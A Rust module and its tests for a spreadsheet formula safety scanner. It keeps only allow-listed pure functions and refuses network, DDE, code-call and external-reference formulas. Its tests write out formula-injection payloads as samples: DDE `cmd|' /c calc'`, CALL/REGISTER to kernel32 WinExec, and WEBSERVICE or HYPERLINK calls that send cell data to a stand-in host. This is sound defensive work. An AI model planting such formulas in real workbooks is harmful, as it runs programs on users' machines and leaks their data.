//! Which formulas from an input may be written, as formulas, into a workbook crossfoot writes.
//!
//! A branch workbook is data, not code. A formula copied from it is kept only if every function
//! it calls is a pure calculation function of [`PURE_FUNCTIONS`] and every reference it makes
//! stays inside the workbook (cells, ranges, sheets); anything else — a call out to the network
//! (`WEBSERVICE`, `IMPORTDATA`, `FILTERXML`), a link (`HYPERLINK`), indirection (`INDIRECT`,
//! `OFFSET`), code (`CALL`, `REGISTER`, `_xludf.`), DDE (`cmd|' /c calc'!A0`), `RTD`, another
//! workbook (`[1]Sheet!A1`, `'C:\dir\[x.xlsx]Sheet'!A1`, `'file:///…'!A1`), a defined name
//! (whose meaning cannot be seen from the formula), a function crossfoot does not know, or text
//! this scanner cannot read — is refused with the reason ([`Unsafe`]). The caller writes the
//! cached value instead, and says why.
//!
//! The scanner reads the formula's tokens ([`super::formula_tokens`], the tokenizer the
//! evaluator and the review workbook's copying read too): string literals, quoted sheet names,
//! Excel's error values ([`ERROR_VALUES`]), numbers, names and operators; it does not evaluate.
//!
//! A formula in OpenDocument's syntax (`of:=SUM([.C8];[.C9])`, as .ods files store them,
//! [`is_opendocument`]) is no formula of an .xlsx: a writer writes its value.

/// The functions a kept formula may call: pure calculations over values and over references
/// inside the workbook, without side effects, volatility or access to anything outside the
/// workbook. Upper case, without the `_xlfn.` prefix newer functions are stored with.
pub const PURE_FUNCTIONS: &[&str] = &[
    // Arithmetic and rounding
    "ABS",
    "CEILING",
    "EVEN",
    "EXP",
    "FLOOR",
    "INT",
    "LN",
    "LOG",
    "LOG10",
    "MOD",
    "ODD",
    "PI",
    "POWER",
    "PRODUCT",
    "QUOTIENT",
    "ROUND",
    "ROUNDDOWN",
    "ROUNDUP",
    "SIGN",
    "SQRT",
    "TRUNC",
    // Sums, counts, averages
    "AVERAGE",
    "AVERAGEA",
    "AVERAGEIF",
    "AVERAGEIFS",
    "COUNT",
    "COUNTA",
    "COUNTBLANK",
    "COUNTIF",
    "COUNTIFS",
    "MAX",
    "MAXA",
    "MAXIFS",
    "MEDIAN",
    "MIN",
    "MINA",
    "MINIFS",
    "SUBTOTAL",
    "SUM",
    "SUMIF",
    "SUMIFS",
    "SUMPRODUCT",
    // Logic and tests
    "AND",
    "FALSE",
    "IF",
    "IFERROR",
    "IFNA",
    "IFS",
    "ISBLANK",
    "ISERR",
    "ISERROR",
    "ISNA",
    "ISNUMBER",
    "ISTEXT",
    "NOT",
    "OR",
    "TRUE",
    "XOR",
    // Lookups inside the workbook
    "CHOOSE",
    "HLOOKUP",
    "INDEX",
    "MATCH",
    "VLOOKUP",
    // Dates from numbers (not TODAY or NOW: volatile)
    "DATE",
    "DAY",
    "MONTH",
    "YEAR",
    // Text
    "CONCAT",
    "CONCATENATE",
    "LEFT",
    "LEN",
    "LOWER",
    "MID",
    "PROPER",
    "RIGHT",
    "TEXT",
    "TRIM",
    "UPPER",
    "VALUE",
];

pub use super::formula_tokens::ERROR_VALUES;
use super::formula_tokens::{tokens, Token};

/// Whether `formula` is written in OpenDocument's syntax, as .ods files store formulas: a
/// namespace prefix before its `=` (`of:=SUM([.C8:.C15])`, `oooc:=[.A1]+1`). Its references
/// (`[.C8]`) and separators (`;`) mean something else in an .xlsx.
pub fn is_opendocument(formula: &str) -> bool {
    let f = formula.trim_start();
    let prefix_len = f
        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '-' || c == '_'))
        .unwrap_or(f.len());
    prefix_len > 0 && f.as_bytes()[0].is_ascii_alphabetic() && f[prefix_len..].starts_with(":=")
}

/// Excel's longest formula, in characters: a longer one is not kept (Excel would refuse the
/// file or repair it away).
pub const MAX_FORMULA_CHARS: usize = 8_192;

/// Whether `name` (any case, with or without the `_xlfn.` / `_xlws.` prefix) is on
/// [`PURE_FUNCTIONS`]. `_xludf.` (a user-defined function) never is.
pub fn is_pure_function(name: &str) -> bool {
    let Some(bare) = bare_function_name(name) else {
        return false;
    };
    PURE_FUNCTIONS.iter().any(|f| f.eq_ignore_ascii_case(&bare))
}

/// The function name without the storage prefixes `_xlfn.` and `_xlws.`, upper case; None for a
/// user-defined function (`_xludf.`).
fn bare_function_name(name: &str) -> Option<String> {
    let mut s = name.trim();
    loop {
        let lower = s.get(..6).map(str::to_ascii_lowercase);
        match lower.as_deref() {
            Some("_xlfn.") | Some("_xlws.") => s = &s[6..],
            _ => break,
        }
    }
    if s.get(..7)
        .is_some_and(|p| p.eq_ignore_ascii_case("_xludf."))
    {
        return None;
    }
    Some(s.to_ascii_uppercase())
}

/// Why a formula is not kept.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Unsafe {
    /// It calls a function that is not on [`PURE_FUNCTIONS`] (as written in the formula).
    Function(String),
    /// It refers to another workbook, a file or a URL.
    ExternalReference,
    /// It is a DDE link (`app|topic!item`): it starts another program.
    Dde,
    /// It uses a defined name (or another name crossfoot cannot see into).
    DefinedName(String),
    /// It is longer than Excel allows ([`MAX_FORMULA_CHARS`]).
    TooLong(usize),
    /// The scanner cannot read it (an unterminated string, an unknown character, …).
    Unreadable(String),
}

/// What a formula calls and refers to, as far as the scanner sees.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Scan {
    /// Every function called, as written (prefixes kept), in order.
    pub functions: Vec<String>,
    /// Every sheet named in a reference (`Sheet1!A1`, `'My sheet'!A1`), in order.
    pub sheets: Vec<String>,
    /// Names that are neither functions, cell or column references nor TRUE/FALSE.
    pub names: Vec<String>,
    /// A reference to another workbook, a file or a URL.
    pub external: bool,
    /// A DDE link (`app|topic!item`).
    pub dde: bool,
}

/// Scans `formula` (with or without the leading `=`).
pub fn scan(formula: &str) -> Result<Scan, Unsafe> {
    let toks = tokens(formula.trim().trim_start_matches('='))
        .map_err(|e| Unsafe::Unreadable(e.describe()))?;
    let mut out = Scan::default();
    for (k, t) in toks.iter().enumerate() {
        match t {
            Token::Sheet { name, quoted } => {
                // A sheet name cannot hold any of these: a name that does is a path, a URL or
                // a workbook in brackets (unquoted, only the backslash of a path can be there).
                let external = if *quoted {
                    name.contains(['[', ']', '\\', '/', ':', '|'])
                } else {
                    name.contains('\\')
                };
                if external {
                    out.external = true;
                }
                out.sheets.push(name.to_string());
            }
            // `[1]Sheet1!A1` (an external link), `Table1[Column]` (a structured reference):
            // neither is seen into.
            Token::Bracket(_) => out.external = true,
            Token::Pipe => out.dde = true,
            // Spaces may stand between a function's name and its parenthesis only in
            // hand-typed text; Excel stores none. The next token is the next as stored.
            Token::Word(word) if toks.get(k + 1) == Some(&Token::Punct('(')) => {
                out.functions.push(word.to_string());
            }
            Token::Word(word) => {
                let next_colon = toks.get(k + 1) == Some(&Token::Punct(':'));
                let prev_colon = toks[..k]
                    .iter()
                    .rev()
                    .find(|t| !matches!(t, Token::Space(_)))
                    == Some(&Token::Punct(':'));
                let known = is_cell_ref(word)
                    || word.eq_ignore_ascii_case("TRUE")
                    || word.eq_ignore_ascii_case("FALSE")
                    || ((next_colon || prev_colon) && is_col_ref(word));
                if !known {
                    out.names.push(word.to_string());
                }
            }
            // An error value (`#DIV/0!`, `#N/A`) is read whole by the tokenizer; any other `#`
            // (the spill operator of `A1#`) alone, and what follows it is read as any other
            // text, so `#REF!WEBSERVICE(…)` and `A1#WEBSERVICE(…)` call WEBSERVICE.
            Token::Text(_)
            | Token::Error(_)
            | Token::Hash
            | Token::Number(_)
            | Token::Punct(_)
            | Token::Space(_) => {}
        }
    }
    Ok(out)
}

/// Whether `formula` may be written as a formula: Ok, or why not.
pub fn assess(formula: &str) -> Result<(), Unsafe> {
    let n = formula.trim().trim_start_matches('=').chars().count();
    if n > MAX_FORMULA_CHARS {
        return Err(Unsafe::TooLong(n));
    }
    let s = scan(formula)?;
    if s.dde {
        return Err(Unsafe::Dde);
    }
    if s.external {
        return Err(Unsafe::ExternalReference);
    }
    if let Some(f) = s.functions.iter().find(|f| !is_pure_function(f)) {
        return Err(Unsafe::Function(f.clone()));
    }
    if let Some(n) = s.names.first() {
        return Err(Unsafe::DefinedName(n.clone()));
    }
    Ok(())
}

/// Whether `formula` may be written as a formula ([`assess`] is Ok).
pub fn is_safe(formula: &str) -> bool {
    assess(formula).is_ok()
}

fn is_col_ref(w: &str) -> bool {
    let w = w.strip_prefix('$').unwrap_or(w);
    !w.is_empty() && w.len() <= 3 && w.bytes().all(|b| b.is_ascii_alphabetic()) && col_ok(w)
}

/// Columns A..XFD.
fn col_ok(letters: &str) -> bool {
    let mut n: u32 = 0;
    for b in letters.bytes() {
        n = n * 26 + u32::from(b.to_ascii_uppercase() - b'A' + 1);
    }
    (1..=16_384).contains(&n)
}

/// `A1`, `$A$1`, `xfd1048576`: at most three letters (A..XFD), then digits (1..1,048,576).
fn is_cell_ref(w: &str) -> bool {
    let t = w.strip_prefix('$').unwrap_or(w);
    let letters: String = t.chars().take_while(char::is_ascii_alphabetic).collect();
    if letters.is_empty() || letters.len() > 3 || !col_ok(&letters) {
        return false;
    }
    let rest = &t[letters.len()..];
    let rest = rest.strip_prefix('$').unwrap_or(rest);
    !rest.is_empty()
        && rest.bytes().all(|b| b.is_ascii_digit())
        && rest
            .parse::<u32>()
            .is_ok_and(|r| (1..=1_048_576).contains(&r))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn why(f: &str) -> Option<Unsafe> {
        assess(f).err()
    }
    fn calls(f: &str, name: &str) -> bool {
        why(f) == Some(Unsafe::Function(name.to_string()))
    }

    #[test]
    fn pure_formulas_are_kept() {
        for f in [
            "SUM(C8:C15)",
            "=C10+C11-C12",
            "$C$7*100/C8",
            "ROUND(C8/C7*100,2)",
            "IF(C7=0,\"-\",C8/C7*100)",
            "IFERROR(C8/C7,#DIV/0!)",
            "_xlfn.IFNA(C8,0)",
            "AVERAGE(C:C)",
            "SUM(1:1)",
            "MIN(A1,B2)+MAX(A1:B2)+ABS(-1)+COUNT(A:A)+COUNTA(B:B)",
            "SUMIF(B8:B15,\"Nam\",C8:C15)",
            "'M01-SoLuong'!C7+Sheet1!C8",
            "'it''s'!A1",
            "1.5E+3*.5",
            "TRUE",
            "SUM({1,2;3,4})",
            "C8%",
        ] {
            assert_eq!(assess(f), Ok(()), "{f}");
        }
    }

    #[test]
    fn error_values_do_not_hide_what_follows_them() {
        assert!(calls("#REF!WEBSERVICE(\"http://x\")", "WEBSERVICE"));
        assert!(calls("#ref!webservice(\"http://x\")", "webservice"));
        assert!(calls("A1#WEBSERVICE(\"http://x\")", "WEBSERVICE"));
        assert!(calls("#N/A+#DIV/0!HYPERLINK(\"x\")", "HYPERLINK"));
        assert!(calls("#NAME?_xlfn.IMPORTDATA(\"x\")", "_xlfn.IMPORTDATA"));
        assert!(calls("#WEBSERVICE(1)", "WEBSERVICE"));
        assert!(calls("#GETTING_DATAX(1)", "X"));
        assert_eq!(
            why("#REF!TongSo"),
            Some(Unsafe::DefinedName("TongSo".into()))
        );
        assert_eq!(
            why("#N/A#\"x\"&INDIRECT(A1)"),
            Some(Unsafe::Function("INDIRECT".into()))
        );
        // The error values themselves are kept.
        for e in ERROR_VALUES {
            assert_eq!(assess(&format!("IFERROR(A1,{e})")), Ok(()), "{e}");
            assert_eq!(
                assess(&format!("IF(A1,{},1)", e.to_lowercase())),
                Ok(()),
                "{e}"
            );
        }
        assert_eq!(assess("Sheet1!#REF!+1"), Ok(()));
    }

    #[test]
    fn opendocument_formulas_are_told_apart() {
        assert!(is_opendocument("of:=SUM([.C8:.C15])"));
        assert!(is_opendocument(" oooc:=[.A1]+1"));
        assert!(is_opendocument("msoxl:=A1"));
        assert!(!is_opendocument("SUM(C8:C15)"));
        assert!(!is_opendocument("=A1:B2"));
        assert!(!is_opendocument("A:A"));
        assert!(!is_opendocument("IF(A1:=1)"));
        assert!(!is_opendocument("'of'!A1"));
    }

    #[test]
    fn volatile_functions_are_not_kept() {
        assert!(calls("TODAY()", "TODAY"));
        assert!(calls("NOW()-A1", "NOW"));
        assert!(calls("RAND()", "RAND"));
    }
    #[test]
    fn a_space_before_the_parenthesis_is_not_a_way_around() {
        assert_eq!(
            why("WEBSERVICE (\"http://x\")"),
            Some(Unsafe::DefinedName("WEBSERVICE".into()))
        );
    }
    #[test]
    fn a_name_after_a_sheet_is_a_defined_name() {
        assert_eq!(
            why("Sheet1!TongSo"),
            Some(Unsafe::DefinedName("TongSo".into()))
        );
    }
    #[test]
    fn webservice() {
        assert!(calls("WEBSERVICE(\"http://x/?\"&A1)", "WEBSERVICE"));
    }
    #[test]
    fn webservice_prefixed() {
        assert!(calls("_xlfn.WEBSERVICE(\"http://x\")", "_xlfn.WEBSERVICE"));
    }
    #[test]
    fn webservice_lower_case() {
        assert!(calls("webservice(\"http://x\")", "webservice"));
    }
    #[test]
    fn webservice_nested() {
        assert!(calls("SUM(WEBSERVICE(\"http://x\"))", "WEBSERVICE"));
    }
    #[test]
    fn webservice_in_a_string_is_text() {
        assert_eq!(assess("IF(A1=\"WEBSERVICE(1)\",1,2)"), Ok(()));
    }
    #[test]
    fn webservice_as_a_sheet_name_is_a_sheet() {
        assert_eq!(assess("'WEBSERVICE'!A1+WEBSERVICE!B2"), Ok(()));
    }
    #[test]
    fn importdata() {
        assert!(calls("_xlfn.IMPORTDATA(\"http://x\")", "_xlfn.IMPORTDATA"));
    }
    #[test]
    fn filterxml() {
        assert!(calls(
            "_xlfn.FILTERXML(_xlfn.WEBSERVICE(\"http://x\"),\"//a\")",
            "_xlfn.FILTERXML"
        ));
    }
    #[test]
    fn hyperlink() {
        assert!(calls("HYPERLINK(\"http://x/?\"&A1,\"click\")", "HYPERLINK"));
    }
    #[test]
    fn indirect() {
        assert!(calls("SUM(INDIRECT(\"A\"&B1))", "INDIRECT"));
    }
    #[test]
    fn offset() {
        assert!(calls("SUM(OFFSET(A1,0,0,2,2))", "OFFSET"));
    }
    #[test]
    fn call() {
        assert!(calls(
            "CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)",
            "CALL"
        ));
    }
    #[test]
    fn register() {
        assert!(calls("REGISTER(\"kernel32\",\"WinExec\")", "REGISTER"));
    }
    #[test]
    fn register_id() {
        assert!(calls(
            "REGISTER.ID(\"kernel32\",\"WinExec\")",
            "REGISTER.ID"
        ));
    }
    #[test]
    fn exec() {
        assert!(calls("EXEC(\"calc\")", "EXEC"));
    }
    #[test]
    fn rtd() {
        assert!(calls("RTD(\"prog.id\",,\"x\")", "RTD"));
    }
    #[test]
    fn cell_info() {
        assert!(calls("CELL(\"filename\")", "CELL"));
    }
    #[test]
    fn info() {
        assert!(calls("INFO(\"directory\")", "INFO"));
    }
    #[test]
    fn image() {
        assert!(calls("_xlfn.IMAGE(\"http://x/a.png\")", "_xlfn.IMAGE"));
    }
    #[test]
    fn user_defined() {
        assert!(calls("_xludf.SUM(A1)", "_xludf.SUM"));
    }
    #[test]
    fn unknown_function() {
        assert!(calls("SUMWEBSERVICE(A1)", "SUMWEBSERVICE"));
    }
    #[test]
    fn dde_cmd() {
        assert_eq!(why("cmd|' /c calc'!A0"), Some(Unsafe::Dde));
    }
    #[test]
    fn dde_inside_arithmetic() {
        assert_eq!(why("1+cmd|'/c calc'!A0"), Some(Unsafe::Dde));
    }
    #[test]
    fn external_index() {
        assert_eq!(why("[1]Sheet1!A1"), Some(Unsafe::ExternalReference));
    }
    #[test]
    fn external_path() {
        assert_eq!(
            why("'C:\\data\\[x.xlsx]Sheet1'!A1"),
            Some(Unsafe::ExternalReference)
        );
    }
    #[test]
    fn external_url() {
        assert_eq!(
            why("SUM('file:///tmp/[x.xlsx]S'!A1:A2)"),
            Some(Unsafe::ExternalReference)
        );
    }
    #[test]
    fn external_in_a_string_is_text() {
        assert_eq!(assess("\"[1]Sheet1!A1\"&A1"), Ok(()));
    }
    #[test]
    fn defined_name() {
        assert_eq!(why("TongSo*2"), Some(Unsafe::DefinedName("TongSo".into())));
    }
    #[test]
    fn too_long() {
        let f = format!("A1{}", "+A1".repeat(3000));
        assert_eq!(why(&f), Some(Unsafe::TooLong(9002)));
    }
    #[test]
    fn unterminated() {
        assert!(matches!(why("\"abc"), Some(Unsafe::Unreadable(_))));
    }
    #[test]
    fn odd_character() {
        assert!(matches!(why("A1\u{1b}[2J"), Some(Unsafe::Unreadable(_))));
    }
    #[test]
    fn cell_refs_within_the_grid() {
        assert!(is_cell_ref("XFD1048576"));
        assert!(is_cell_ref("$A$1"));
        assert!(!is_cell_ref("XFE1"));
        assert!(!is_cell_ref("A1048577"));
        assert!(!is_cell_ref("A0"));
    }
    #[test]
    fn prefixes_are_stripped() {
        assert!(is_pure_function("_xlfn.IFNA"));
        assert!(is_pure_function("_xlfn._xlws.SUM"));
        assert!(!is_pure_function("_xludf.IFNA"));
        assert!(!is_pure_function("_xlfn.WEBSERVICE"));
    }
}
